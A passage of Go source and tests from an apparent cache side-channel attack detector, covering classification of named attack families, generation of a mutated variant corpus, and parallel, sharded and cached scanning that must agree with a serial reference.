	if res.Predicted == attacks.FamilyBenign {
		t.Errorf("FR-Mastik classified benign (best %s %.2f)",
			res.Best.Name, res.Best.Score)
	}
	if res.Predicted != attacks.FamilyFR && res.Predicted != attacks.FamilySFR {
		t.Errorf("FR-Mastik classified as %s", res.Predicted)
	}
}

func TestMutatedVariantClassification(t *testing.T) {
	r := repo(t)
	d := NewDetector(r)
	p := attacks.DefaultParams()
	poc := attacks.PrimeProbeIAIK(p)
	mut, err := mutate.Mutate(poc.Program, mutate.LightConfig(17))
	if err != nil {
		t.Fatal(err)
	}
	res, _, err := d.Classify(mut, poc.Victim)
	if err != nil {
		t.Fatal(err)
	}
	if res.Predicted != attacks.FamilyPP {
		t.Errorf("mutated PP classified as %s (best %s %.2f)",
			res.Predicted, res.Best.Name, res.Best.Score)
	}
}

func TestBenignClassification(t *testing.T) {
	r := repo(t)
	d := NewDetector(r)
	for _, spec := range []benign.Spec{
		{Kind: benign.KindLeetcode, Template: "binary-search", Seed: 11},
		{Kind: benign.KindSpec, Template: "stream", Seed: 12},
		{Kind: benign.KindServer, Template: "thttpd-serve", Seed: 13},
	} {
		prog := benign.MustGenerate(spec)
		res, _, err := d.Classify(prog, nil)
		if err != nil {
			t.Fatal(err)
		}
		if res.Predicted != attacks.FamilyBenign {
			t.Errorf("%s classified as %s (best %s score %.3f)",
				spec.Name(), res.Predicted, res.Best.Name, res.Best.Score)
		}
	}
}

func TestThresholdControlsDecision(t *testing.T) {
	r := repo(t)
	p := attacks.DefaultParams()
	poc := attacks.FlushReloadIAIK(p)
	m, err := model.Build(poc.Program, poc.Victim, model.DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	strict := NewDetector(r)
	strict.Threshold = 1.01 // nothing can reach it
	if res := strict.ClassifyBBS(m.BBS); res.Predicted != attacks.FamilyBenign {
		t.Error("impossible threshold must force benign")
	}
	lax := NewDetector(r)
	lax.Threshold = 0
	if res := lax.ClassifyBBS(m.BBS); res.Predicted == attacks.FamilyBenign {
		t.Error("zero threshold must classify as some attack")
	}
}

func TestMatchesSorted(t *testing.T) {
	r := repo(t)
	d := NewDetector(r)
	p := attacks.DefaultParams()
	poc := attacks.EvictReloadIAIK(p)
	res, _, err := d.Classify(poc.Program, poc.Victim)
	if err != nil {
		t.Fatal(err)
	}
	for i := 1; i < len(res.Matches); i++ {
		if res.Matches[i-1].Score < res.Matches[i].Score {
			t.Error("matches not sorted by score")
		}
	}
	if res.Best != res.Matches[0] {
		t.Error("Best must equal the first match")
	}
}

func TestClassifyInvalidProgram(t *testing.T) {
	d := NewDetector(repo(t))
	if _, _, err := d.Classify(nil, nil); err == nil {
		t.Error("nil program must fail")
	}
}

func TestEmptyRepository(t *testing.T) {
	d := NewDetector(&Repository{})
	p := attacks.DefaultParams()
	poc := attacks.FlushReloadIAIK(p)
	m, err := model.Build(poc.Program, poc.Victim, model.DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	res := d.ClassifyBBS(m.BBS)
	if res.Predicted != attacks.FamilyBenign || len(res.Matches) != 0 {
		t.Error("empty repository must yield benign with no matches")
	}
}

// Families guarantees deterministic output: deduplicated, sorted
// ascending, and independent of insertion order. Reports and golden
// files rely on it.
func TestFamiliesDeterministicOrder(t *testing.T) {
	bbs := repo(t).Entries[0].BBS
	families := []attacks.Family{
		attacks.FamilySPP, attacks.FamilyFR, attacks.FamilyPP,
		attacks.FamilyFR, attacks.FamilySFR, attacks.FamilyPP,
	}
	build := func(order []attacks.Family) *Repository {
		r := &Repository{}
		for i, f := range order {
			r.Add(fmt.Sprintf("e%d", i), f, bbs)
		}
		return r
	}
	reversed := make([]attacks.Family, len(families))
	for i, f := range families {
		reversed[len(families)-1-i] = f
	}
	got := build(families).Families()
	gotRev := build(reversed).Families()
	if !reflect.DeepEqual(got, gotRev) {
		t.Fatalf("insertion order changed Families: %v vs %v", got, gotRev)
	}
	want := []attacks.Family{
		attacks.FamilyFR, attacks.FamilyPP, attacks.FamilySFR, attacks.FamilySPP,
	}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("Families = %v, want deduped ascending %v", got, want)
	}
	for i := 0; i < 50; i++ { // repeated calls are stable (map iteration inside)
		if again := build(families).Families(); !reflect.DeepEqual(again, want) {
			t.Fatalf("run %d: Families = %v, want %v", i, again, want)
		}
	}
}
