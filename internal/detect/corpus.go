package detect

import (
	"fmt"
	"math/rand"
	"strconv"

	"repro/internal/attacks"
	"repro/internal/model"
	"repro/internal/mutate"
)

// CorpusConfig tunes BuildVariantRepository.
type CorpusConfig struct {
	// PerFamily is the number of mutated variants generated per attack
	// family (<= 0 selects 125, which with the four families clears the
	// 500-variant stress-corpus floor).
	PerFamily int
	// Seed is the corpus base seed. Every variant derives its own
	// mutation and parameter seeds from (Seed, family, index) via
	// mutate.DeriveSeed, so the corpus is a pure function of this value:
	// regenerating it — on another machine, in another order, as a
	// subset — yields byte-identical models.
	Seed int64
	// Obfuscate switches from the light mutation profile to the
	// polymorphic obfuscation profile (E4-style junk-block insertion).
	Obfuscate bool
	// Model configures the modeling pipeline (zero value = defaults).
	Model model.Config
}

// BuildVariantRepository generates the mutation stress corpus: a
// repository of PerFamily seeded variants per attack family, each built
// by varying the family PoC's parameters and mutating the resulting
// program before modeling. It is the generation mode behind
// `scaguard-corpus -out` and the population of the index benchmarks —
// large enough that flat-versus-indexed scan costs separate cleanly,
// and deterministic enough that two builds anywhere agree byte for
// byte (see TestVariantRepositoryDeterministic).
//
// Variant identity is (Seed, family, index): parameters and the
// mutation seed are derived per variant with mutate.DeriveSeed rather
// than drawn sequentially from one shared rng, so no variant's content
// depends on how many were generated before it.
func BuildVariantRepository(cfg CorpusConfig) (*Repository, error) {
	per := cfg.PerFamily
	if per <= 0 {
		per = 125
	}
	r := &Repository{}
	for _, fam := range attacks.Families() {
		base := attacks.OfFamily(fam, attacks.DefaultParams())
		if len(base) == 0 {
			return nil, fmt.Errorf("detect: family %s has no PoCs", fam)
		}
		for i := 0; i < per; i++ {
			idx := strconv.Itoa(i)
			// Parameter variation gets its own derived stream, split from
			// the mutation seed so changing one profile never shifts the
			// other.
			prng := rand.New(rand.NewSource(mutate.DeriveSeed(cfg.Seed, "params", string(fam), idx)))
			params := varyParams(prng)
			poc := base[i%len(base)]
			varied, err := attacks.ByName(poc.Name, params)
			if err != nil {
				return nil, fmt.Errorf("detect: corpus variant %s/%d: %w", fam, i, err)
			}
			mseed := mutate.DeriveSeed(cfg.Seed, "mutate", poc.Name, idx)
			mcfg := mutate.LightConfig(mseed)
			if cfg.Obfuscate {
				mcfg = mutate.ObfuscationConfig(mseed)
			}
			prog, err := mutate.Mutate(varied.Program, mcfg)
			if err != nil {
				return nil, fmt.Errorf("detect: mutating %s/%d: %w", poc.Name, i, err)
			}
			m, err := model.Build(prog, varied.Victim, cfg.Model)
			if err != nil {
				return nil, fmt.Errorf("detect: modeling %s/%d: %w", poc.Name, i, err)
			}
			r.Add(fmt.Sprintf("%s-x%03d", poc.Name, i), fam, m.BBS)
		}
	}
	return r, nil
}

// varyParams draws diversified but working attack parameters — the
// same ranges internal/dataset uses (kept unexported there; the two
// corpora evolve independently, only the ranges coincide today).
func varyParams(rng *rand.Rand) attacks.Params {
	p := attacks.DefaultParams()
	p.Rounds = 3 + rng.Intn(3)
	p.Lines = 8 + rng.Intn(8)
	p.Wait = 16 + rng.Intn(24)
	p.Secret = rng.Intn(p.Lines)
	return p
}
