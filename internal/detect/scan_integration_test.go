package detect

import (
	"fmt"
	"math"
	"sort"
	"sync"
	"testing"

	"repro/internal/attacks"
	"repro/internal/benign"
	"repro/internal/model"
	"repro/internal/mutate"
	"repro/internal/similarity"
)

// serialClassify is the pre-engine reference implementation of
// ClassifyBBS: a plain loop over the entries calling similarity.Score,
// kept verbatim so the scan-engine path can be checked against it.
func serialClassify(d *Detector, bbs *model.CSTBBS) Result {
	res := Result{Predicted: attacks.FamilyBenign, Best: Match{Family: attacks.FamilyBenign}}
	if bbs.Len() < MinModelLen {
		return res
	}
	if d.RequireTimer && bbs.TimerReads == 0 {
		return res
	}
	for _, e := range d.Repo.Entries {
		s := similarity.Score(bbs, e.BBS, d.SimOpts)
		res.Matches = append(res.Matches, Match{Name: e.Name, Family: e.Family, Score: s})
	}
	sort.SliceStable(res.Matches, func(i, j int) bool {
		return res.Matches[i].Score > res.Matches[j].Score
	})
	if len(res.Matches) > 0 {
		res.Best = res.Matches[0]
		if res.Best.Score >= d.Threshold {
			res.Predicted = res.Best.Family
		}
	}
	return res
}

// corpusTargets builds a broad target set: every PoC in the catalog,
// light mutants of a few, and benign programs.
func corpusTargets(t *testing.T) []*model.CSTBBS {
	t.Helper()
	p := attacks.DefaultParams()
	var progs []attacks.PoC
	progs = append(progs, attacks.All(p)...)
	for i, poc := range attacks.All(p)[:3] {
		mut, err := mutate.Mutate(poc.Program, mutate.LightConfig(int64(100+i)))
		if err != nil {
			t.Fatal(err)
		}
		progs = append(progs, attacks.PoC{Name: poc.Name + "-mut", Family: poc.Family, Program: mut, Victim: poc.Victim})
	}
	var out []*model.CSTBBS
	for _, poc := range progs {
		m, err := model.Build(poc.Program, poc.Victim, model.DefaultConfig())
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, m.BBS)
	}
	for i, spec := range []benign.Spec{
		{Kind: benign.KindLeetcode, Template: "binary-search", Seed: 21},
		{Kind: benign.KindSpec, Template: "stream", Seed: 22},
	} {
		m, err := model.Build(benign.MustGenerate(spec), nil, model.DefaultConfig())
		if err != nil {
			t.Fatalf("benign %d: %v", i, err)
		}
		out = append(out, m.BBS)
	}
	return out
}

// The scan-engine classification must be bit-identical to the serial
// reference over the full corpus: same prediction, same match order,
// same scores (exactly — the acceptance bar of 1e-12 is met with
// slack).
func TestParallelClassifyMatchesSerial(t *testing.T) {
	r := repo(t)
	targets := corpusTargets(t)
	for _, workers := range []int{1, 2, 4} {
		d := NewDetector(r)
		d.Scan.Workers = workers
		for ti, bbs := range targets {
			got := d.ClassifyBBS(bbs)
			want := serialClassify(d, bbs)
			if got.Predicted != want.Predicted {
				t.Errorf("workers=%d target %d: predicted %s, serial %s", workers, ti, got.Predicted, want.Predicted)
			}
			if got.Best != want.Best {
				t.Errorf("workers=%d target %d: best %+v, serial %+v", workers, ti, got.Best, want.Best)
			}
			if len(got.Matches) != len(want.Matches) {
				t.Fatalf("workers=%d target %d: %d matches, serial %d", workers, ti, len(got.Matches), len(want.Matches))
			}
			for i := range got.Matches {
				if got.Matches[i] != want.Matches[i] {
					t.Errorf("workers=%d target %d match %d: %+v != %+v", workers, ti, i, got.Matches[i], want.Matches[i])
				}
				if math.Abs(got.Matches[i].Score-want.Matches[i].Score) > 1e-12 {
					t.Errorf("workers=%d target %d match %d: score drift", workers, ti, i)
				}
			}
		}
	}
}

// Pruned mode may relabel non-winning matches, but the decision surface
// — prediction and best match — must stay exact.
func TestPrunedClassifyKeepsDecision(t *testing.T) {
	r := repo(t)
	targets := corpusTargets(t)
	exact := NewDetector(r)
	fast := NewDetector(r)
	fast.Scan.Prune = true
	fast.Scan.Workers = 4
	for ti, bbs := range targets {
		want := exact.ClassifyBBS(bbs)
		got := fast.ClassifyBBS(bbs)
		if got.Predicted != want.Predicted {
			t.Errorf("target %d: pruned predicted %s, exact %s", ti, got.Predicted, want.Predicted)
		}
		if got.Best != want.Best {
			t.Errorf("target %d: pruned best %+v, exact %+v", ti, got.Best, want.Best)
		}
		if got.Best.Pruned {
			t.Errorf("target %d: best match marked pruned", ti)
		}
		// Pruned scores are upper bounds; exact ones are exact. Either
		// way no entry may report a score below its true value.
		exactByName := make(map[string]float64, len(want.Matches))
		for _, m := range want.Matches {
			exactByName[m.Name] = m.Score
		}
		for _, m := range got.Matches {
			if m.Score < exactByName[m.Name]-1e-12 {
				t.Errorf("target %d %s: pruned score %v below exact %v", ti, m.Name, m.Score, exactByName[m.Name])
			}
		}
	}
}

// ClassifyBatch must agree entry-for-entry with per-target ClassifyBBS,
// including gated targets interleaved with live ones.
func TestClassifyBatch(t *testing.T) {
	r := repo(t)
	d := NewDetector(r)
	d.Scan.Workers = 3
	targets := corpusTargets(t)
	// Interleave targets the gates reject.
	targets = append(targets, &model.CSTBBS{Name: "tiny"}) // below MinModelLen
	targets = append(targets, &model.CSTBBS{Name: "short", TimerReads: 1})
	batch := d.ClassifyBatch(targets)
	if len(batch) != len(targets) {
		t.Fatalf("batch returned %d results for %d targets", len(batch), len(targets))
	}
	for i, bbs := range targets {
		single := d.ClassifyBBS(bbs)
		if batch[i].Predicted != single.Predicted || batch[i].Best != single.Best {
			t.Errorf("target %d: batch %+v != single %+v", i, batch[i].Best, single.Best)
		}
		if len(batch[i].Matches) != len(single.Matches) {
			t.Fatalf("target %d: match count mismatch", i)
		}
		for j := range batch[i].Matches {
			if batch[i].Matches[j] != single.Matches[j] {
				t.Errorf("target %d match %d: batch != single", i, j)
			}
		}
	}
	if got := d.ClassifyBatch(nil); len(got) != 0 {
		t.Errorf("nil batch returned %d results", len(got))
	}
}

// An empty repository must produce an explicit benign result: benign
// prediction, a Best naming the benign family, and no matches.
func TestEmptyRepositoryExplicitBenign(t *testing.T) {
	d := NewDetector(&Repository{})
	p := attacks.DefaultParams()
	poc := attacks.FlushReloadIAIK(p)
	m, err := model.Build(poc.Program, poc.Victim, model.DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	for name, res := range map[string]Result{
		"attack-target": d.ClassifyBBS(m.BBS),
		"gated-target":  d.ClassifyBBS(&model.CSTBBS{Name: "tiny"}),
		"batch":         d.ClassifyBatch([]*model.CSTBBS{m.BBS})[0],
	} {
		if res.Predicted != attacks.FamilyBenign {
			t.Errorf("%s: predicted %s", name, res.Predicted)
		}
		if res.Best.Family != attacks.FamilyBenign || res.Best.Name != "" {
			t.Errorf("%s: best = %+v, want explicit benign", name, res.Best)
		}
		if len(res.Matches) != 0 {
			t.Errorf("%s: %d matches from empty repository", name, len(res.Matches))
		}
	}
}

// Repository and Detector are safe for concurrent use: goroutines
// classifying through one detector while another keeps calling Add must
// be race-free (run under -race) and each classification must be
// internally consistent.
func TestConcurrentClassifyAndAdd(t *testing.T) {
	base := repo(t)
	// Private growing repository so the shared fixture stays untouched.
	r := &Repository{}
	entries, _ := base.snapshot()
	for _, e := range entries[:2] {
		r.Add(e.Name, e.Family, e.BBS)
	}
	d := NewDetector(r)
	targets := corpusTargets(t)[:4]

	// The writer is capped: every Add invalidates the readers' cached
	// engines, so an unbounded writer would make each classification
	// rescan an ever-growing repository.
	const maxAdds = 64
	var writerWg, readerWg sync.WaitGroup
	stop := make(chan struct{})
	writerWg.Add(1)
	go func() { // writer: grows the repository while readers classify
		defer writerWg.Done()
		for i := 0; i < maxAdds; i++ {
			select {
			case <-stop:
				return
			default:
			}
			e := entries[2+i%(len(entries)-2)]
			r.Add(fmt.Sprintf("%s#%d", e.Name, i), e.Family, e.BBS)
		}
	}()
	for g := 0; g < 4; g++ {
		readerWg.Add(1)
		go func(g int) {
			defer readerWg.Done()
			for iter := 0; iter < 8; iter++ {
				res := d.ClassifyBBS(targets[(g+iter)%len(targets)])
				for i := 1; i < len(res.Matches); i++ {
					if res.Matches[i-1].Score < res.Matches[i].Score {
						t.Errorf("goroutine %d: matches out of order", g)
					}
				}
				if len(res.Matches) > 0 && res.Best != res.Matches[0] {
					t.Errorf("goroutine %d: best != first match", g)
				}
				// Save may run concurrently with everything else.
				if err := r.Save(discard{}); err != nil {
					t.Errorf("goroutine %d: save: %v", g, err)
				}
			}
		}(g)
	}
	readerWg.Wait()
	close(stop)
	writerWg.Wait()
}

type discard struct{}

func (discard) Write(p []byte) (int, error) { return len(p), nil }

// The engine cache must notice repository growth and configuration
// changes, never serving stale entries.
func TestEngineRebuilds(t *testing.T) {
	base := repo(t)
	entries, _ := base.snapshot()
	r := &Repository{}
	r.Add(entries[0].Name, entries[0].Family, entries[0].BBS)
	d := NewDetector(r)
	targets := corpusTargets(t)[:1]

	res1 := d.ClassifyBBS(targets[0])
	if len(res1.Matches) != 1 {
		t.Fatalf("matches = %d, want 1", len(res1.Matches))
	}
	r.Add(entries[1].Name, entries[1].Family, entries[1].BBS)
	res2 := d.ClassifyBBS(targets[0])
	if len(res2.Matches) != 2 {
		t.Fatalf("after Add: matches = %d, want 2", len(res2.Matches))
	}
	// A SimOpts change must invalidate the cached engine too.
	d.SimOpts = similarity.Options{ISWeight: 0, CSPWeight: 1, Window: d.SimOpts.Window}
	res3 := d.ClassifyBBS(targets[0])
	want := serialClassify(d, targets[0])
	for i := range res3.Matches {
		if res3.Matches[i] != want.Matches[i] {
			t.Errorf("after SimOpts change: match %d = %+v, want %+v", i, res3.Matches[i], want.Matches[i])
		}
	}
}
