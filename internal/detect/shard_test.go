package detect

// Tests for the sharded repository scan behind the detector API:
// differential equivalence against the single-engine detector (local
// shards and loopback-HTTP remote shards), partial-result degradation
// when a shard dies, and a Classify-vs-Add race over a sharded
// repository (run under `go test -race`, part of `make race`).

import (
	"context"
	"errors"
	"fmt"
	"net/http/httptest"
	"reflect"
	"sync"
	"testing"

	"repro/internal/attacks"
	"repro/internal/faultinject"
	"repro/internal/model"
	"repro/internal/shard"
	"repro/internal/telemetry"
)

// repoTargets returns the repository entries' own models plus a benign
// gated one — real CST-BBS sequences with known classifications.
func repoTargets(r *Repository) []*model.CSTBBS {
	out := make([]*model.CSTBBS, 0, len(r.Entries))
	for _, e := range r.Entries {
		out = append(out, e.BBS)
	}
	return out
}

// shardServers launches loopback HTTP servers over the router's slices
// of the repository, as `scaguard shard-serve` would.
func shardServers(t *testing.T, r *Repository, n int) []string {
	t.Helper()
	models := repoTargets(r)
	addrs := make([]string, n)
	for i := 0; i < n; i++ {
		srv := httptest.NewServer(shard.NewServer(shard.ShardModels(models, shard.Router{Shards: n}, i), shard.ServerConfig{}).Handler())
		t.Cleanup(srv.Close)
		addrs[i] = srv.URL
	}
	return addrs
}

// TestShardedDetectorMatchesSingleEngine: the whole Result — predicted
// family, best match, every score in every position — is identical
// (reflect.DeepEqual, exact floats) between the single-engine detector
// and sharded ones, local and remote, across shard counts.
func TestShardedDetectorMatchesSingleEngine(t *testing.T) {
	r := repo(t)
	ref := NewDetector(r)
	targets := repoTargets(r)
	want := ref.ClassifyBatch(targets)

	for _, n := range []int{1, 2, 7} {
		local := NewDetector(r)
		local.Shards = n
		for ti, bbs := range targets {
			if got := local.ClassifyBBS(bbs); !reflect.DeepEqual(got, want[ti]) {
				t.Fatalf("local shards=%d target %d: %+v, want %+v", n, ti, got, want[ti])
			}
		}
		if got := local.ClassifyBatch(targets); !reflect.DeepEqual(got, want) {
			t.Fatalf("local shards=%d batch diverged", n)
		}
	}
	for _, n := range []int{1, 2} {
		remote := NewDetector(r)
		remote.ShardAddrs = shardServers(t, r, n)
		for ti, bbs := range targets {
			got, err := remote.ClassifyBBSCtx(context.Background(), bbs)
			if err != nil {
				t.Fatalf("remote shards=%d target %d: %v", n, ti, err)
			}
			if !reflect.DeepEqual(got, want[ti]) {
				t.Fatalf("remote shards=%d target %d: %+v, want %+v", n, ti, got, want[ti])
			}
		}
	}
}

// TestShardedDetectorPrunedBestStable: pruning across shards keeps the
// classification (family and best match) identical to the exact
// single-engine detector.
func TestShardedDetectorPrunedBestStable(t *testing.T) {
	r := repo(t)
	ref := NewDetector(r)
	targets := repoTargets(r)
	d := NewDetector(r)
	d.Shards = 3
	d.Scan.Prune = true
	for ti, bbs := range targets {
		want := ref.ClassifyBBS(bbs)
		got := d.ClassifyBBS(bbs)
		if got.Predicted != want.Predicted || got.Best.Name != want.Best.Name || got.Best.Score != want.Best.Score {
			t.Fatalf("target %d: pruned sharded best %+v, want %+v", ti, got.Best, want.Best)
		}
	}
}

// TestShardedDetectorPartialDegradation: with one shard down, the ctx
// API returns a usable partial Result alongside the *shard.PartialError
// and the non-ctx API degrades silently — classification keeps
// answering instead of failing outright.
func TestShardedDetectorPartialDegradation(t *testing.T) {
	t.Cleanup(faultinject.Reset)
	r := repo(t)
	tel := telemetry.NewCollector()
	d := NewDetector(r)
	d.Shards = 2
	d.Telemetry = tel
	target := r.Entries[0].BBS

	full := d.ClassifyBBS(target) // warm build, no fault yet
	faultinject.Enable(faultinject.ShardScan, faultinject.Match("1", faultinject.Error(errors.New("shard down"))))

	res, err := d.ClassifyBBSCtx(context.Background(), target)
	var pe *shard.PartialError
	if !errors.As(err, &pe) {
		t.Fatalf("err = %v, want *shard.PartialError", err)
	}
	if len(res.Matches) == 0 || len(res.Matches) >= len(full.Matches) {
		t.Fatalf("partial result has %d matches (full scan has %d)", len(res.Matches), len(full.Matches))
	}
	for _, m := range res.Matches {
		if m.Name == "" {
			t.Fatal("partial match lost its entry name")
		}
	}

	silent := d.ClassifyBBS(target)
	if len(silent.Matches) != len(res.Matches) {
		t.Fatalf("non-ctx API returned %d matches, ctx API %d", len(silent.Matches), len(res.Matches))
	}
	if tel.Counter(telemetry.ShardDegradedScans) == 0 {
		t.Error("degraded scans not counted")
	}

	// Batch: every target still resolves, with the partial error joined.
	results, err := d.ClassifyBatchCtx(context.Background(), repoTargets(r))
	if !errors.As(err, &pe) {
		t.Fatalf("batch err = %v, want *shard.PartialError", err)
	}
	if len(results) != len(r.Entries) {
		t.Fatalf("batch returned %d results", len(results))
	}
	for i, res := range results {
		if res.Predicted == "" {
			t.Errorf("batch target %d has empty prediction", i)
		}
	}
}

// TestShardedClassifyVsAddRace: concurrent ClassifyBatch and ClassifyBBS
// against a sharded repository that grows through Add — the coordinator
// rebuild path under contention. Meaningful under -race.
func TestShardedClassifyVsAddRace(t *testing.T) {
	p := attacks.DefaultParams()
	pocs := []attacks.PoC{
		attacks.FlushReloadIAIK(p),
		attacks.PrimeProbeIAIK(p),
	}
	r, err := BuildRepository(pocs, model.DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	d := NewDetector(r)
	d.Shards = 3
	d.Telemetry = telemetry.NewCollector()
	targets := repoTargets(r)
	extra := r.Entries[0].BBS

	const (
		classifiers = 4
		rounds      = 15
		adds        = 8
	)
	var wg sync.WaitGroup
	for g := 0; g < classifiers; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < rounds; i++ {
				if g%2 == 0 {
					results := d.ClassifyBatch(targets)
					if len(results) != len(targets) {
						t.Errorf("batch returned %d results", len(results))
						return
					}
				} else if res := d.ClassifyBBS(targets[i%len(targets)]); res.Predicted == "" {
					t.Error("empty prediction")
					return
				}
			}
		}(g)
	}
	wg.Add(1)
	go func() {
		defer wg.Done()
		for i := 0; i < adds; i++ {
			r.Add(fmt.Sprintf("sharded-extra-%d", i), attacks.FamilyFR, extra)
		}
	}()
	wg.Wait()
	if r.Len() != len(pocs)+adds {
		t.Errorf("repository length = %d", r.Len())
	}
	if d.Telemetry.Counter(telemetry.ShardScans) == 0 {
		t.Error("no sharded scans recorded")
	}
}
