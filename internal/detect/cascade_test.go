package detect

// Detector-level tests for the cascade scan path: the verdict and best
// match must match the exact single-engine detector across shard
// counts, and the cascade must survive a Classify-vs-Add race (run
// under `go test -race`, part of `make race`).

import (
	"fmt"
	"sync"
	"testing"

	"repro/internal/attacks"
	"repro/internal/model"
	"repro/internal/scan"
	"repro/internal/telemetry"
)

// TestCascadeDetectorBestMatchesExact: for every repository target, a
// pruning+cascade detector — single-engine and sharded — must agree
// with the exact reference on the predicted family, the best match
// name and the bit-exact best score. Full match lists are not compared
// (pruned entries legitimately carry upper bounds).
func TestCascadeDetectorBestMatchesExact(t *testing.T) {
	r := repo(t)
	ref := NewDetector(r)
	targets := repoTargets(r)
	want := ref.ClassifyBatch(targets)

	for _, n := range []int{1, 2, 7} {
		d := NewDetector(r)
		d.Shards = n
		d.Scan = scan.Config{Prune: true, Cascade: true}
		got := d.ClassifyBatch(targets)
		for i := range want {
			if got[i].Predicted != want[i].Predicted {
				t.Errorf("shards=%d target %d: predicted %q, exact %q", n, i, got[i].Predicted, want[i].Predicted)
			}
			if got[i].Best.Name != want[i].Best.Name {
				t.Errorf("shards=%d target %d: best %q, exact %q", n, i, got[i].Best.Name, want[i].Best.Name)
			}
			if got[i].Best.Score != want[i].Best.Score {
				t.Errorf("shards=%d target %d: best score %v, exact %v", n, i, got[i].Best.Score, want[i].Best.Score)
			}
			if got[i].Best.Pruned {
				t.Errorf("shards=%d target %d: best match reported pruned", n, i)
			}
		}
	}
}

// TestCascadeClassifyVsAddRace: concurrent cascade classification and
// repository growth — engine rebuilds must never race the flattened
// model state or the per-worker scratches. Meaningful under -race.
func TestCascadeClassifyVsAddRace(t *testing.T) {
	p := attacks.DefaultParams()
	pocs := []attacks.PoC{
		attacks.FlushReloadIAIK(p),
		attacks.PrimeProbeIAIK(p),
	}
	r, err := BuildRepository(pocs, model.DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	d := NewDetector(r)
	d.Shards = 2
	d.Scan = scan.Config{Prune: true, Cascade: true}
	d.Telemetry = telemetry.NewCollector()
	targets := repoTargets(r)
	extra := r.Entries[0].BBS

	const (
		classifiers = 4
		rounds      = 12
		adds        = 6
	)
	var wg sync.WaitGroup
	for g := 0; g < classifiers; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < rounds; i++ {
				if g%2 == 0 {
					results := d.ClassifyBatch(targets)
					if len(results) != len(targets) {
						t.Errorf("batch returned %d results", len(results))
						return
					}
				} else if res := d.ClassifyBBS(targets[i%len(targets)]); res.Predicted == "" {
					t.Error("empty prediction")
					return
				}
			}
		}(g)
	}
	wg.Add(1)
	go func() {
		defer wg.Done()
		for i := 0; i < adds; i++ {
			r.Add(fmt.Sprintf("cascade-extra-%d", i), attacks.FamilyFR, extra)
		}
	}()
	wg.Wait()
	if r.Len() != len(pocs)+adds {
		t.Errorf("repository length = %d", r.Len())
	}
}
