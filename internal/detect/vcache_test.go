package detect

// Tests for the verdict result cache (internal/vcache) behind the
// detector API: differential bit-identity of cached verdicts,
// version-keyed invalidation through Repository.Add, singleflight
// collapse of concurrent identical targets, the never-cache-partials
// guarantee on degraded sharded scans, and the cold/warm benchmark
// behind `make bench-vcache`.

import (
	"context"
	"errors"
	"fmt"
	"reflect"
	"sync"
	"testing"

	"repro/internal/attacks"
	"repro/internal/faultinject"
	"repro/internal/model"
	"repro/internal/shard"
	"repro/internal/telemetry"
)

// freshRepo copies the shared test repository's entries into a new
// Repository that tests may mutate through Add without poisoning the
// package-wide fixture.
func freshRepo(t *testing.T) *Repository {
	t.Helper()
	src := repo(t)
	r := &Repository{}
	for _, e := range src.Entries {
		r.Add(e.Name, e.Family, e.BBS)
	}
	return r
}

// TestVerdictCacheExactBitIdentity: the headline differential — with
// the result cache on, every verdict is bit-identical
// (reflect.DeepEqual, exact floats) to the uncached single-engine
// detector, on the first pass (cold misses) and on the repeat pass,
// which must be served entirely from memory: zero additional repository
// scans, one hit per target.
func TestVerdictCacheExactBitIdentity(t *testing.T) {
	r := repo(t)
	ref := NewDetector(r)
	targets := repoTargets(r)
	want := make([]Result, len(targets))
	for i, bbs := range targets {
		want[i] = ref.ClassifyBBS(bbs)
	}

	tel := telemetry.NewCollector()
	d := NewDetector(r)
	d.ResultCache = 16
	d.Telemetry = tel
	for pass := 0; pass < 2; pass++ {
		for ti, bbs := range targets {
			got, err := d.ClassifyBBSCtx(context.Background(), bbs)
			if err != nil {
				t.Fatalf("pass %d target %d: %v", pass, ti, err)
			}
			if !reflect.DeepEqual(got, want[ti]) {
				t.Fatalf("pass %d target %d: cached verdict diverged:\n got %+v\nwant %+v", pass, ti, got, want[ti])
			}
		}
	}
	n := uint64(len(targets))
	if scans := tel.Counter(telemetry.ScanTargets); scans != n {
		t.Errorf("scan_targets = %d over two passes, want %d (repeat pass must not scan)", scans, n)
	}
	if hits, misses := tel.Counter(telemetry.VCacheHits), tel.Counter(telemetry.VCacheMisses); hits != n || misses != n {
		t.Errorf("vcache hits=%d misses=%d, want %d/%d", hits, misses, n, n)
	}

	// The batch API shares the same cache: a full batch over warm keys is
	// all hits and bit-identical too.
	batch := d.ClassifyBatch(targets)
	if !reflect.DeepEqual(batch, want) {
		t.Fatal("cached batch verdicts diverged from the uncached reference")
	}
	if scans := tel.Counter(telemetry.ScanTargets); scans != n {
		t.Errorf("scan_targets = %d after warm batch, want still %d", scans, n)
	}
}

// TestVerdictCacheInvalidatedByAdd: Repository.Add bumps the version,
// so a previously cached verdict is recomputed against the grown
// repository — the new entry appears in the match list and the stale
// cached result is never served.
func TestVerdictCacheInvalidatedByAdd(t *testing.T) {
	r := freshRepo(t)
	tel := telemetry.NewCollector()
	d := NewDetector(r)
	d.ResultCache = 8
	d.Telemetry = tel
	target := r.Entries[0].BBS

	before := d.ClassifyBBS(target)
	if _, err := d.ClassifyBBSCtx(context.Background(), target); err != nil {
		t.Fatal(err)
	}
	if hits := tel.Counter(telemetry.VCacheHits); hits != 1 {
		t.Fatalf("warm lookup hits = %d, want 1", hits)
	}

	r.Add("added-after-caching", attacks.FamilyFR, r.Entries[1].BBS)
	after := d.ClassifyBBS(target)
	if len(after.Matches) != len(before.Matches)+1 {
		t.Fatalf("post-Add verdict has %d matches, want %d — stale cached result served",
			len(after.Matches), len(before.Matches)+1)
	}
	found := false
	for _, m := range after.Matches {
		found = found || m.Name == "added-after-caching"
	}
	if !found {
		t.Fatal("post-Add verdict does not cover the new entry")
	}
	if misses := tel.Counter(telemetry.VCacheMisses); misses != 2 {
		t.Errorf("misses = %d, want 2 (cold + post-Add recompute)", misses)
	}

	// And the new key is cached in turn.
	scans := tel.Counter(telemetry.ScanTargets)
	if got := d.ClassifyBBS(target); !reflect.DeepEqual(got, after) {
		t.Fatal("re-cached post-Add verdict diverged")
	}
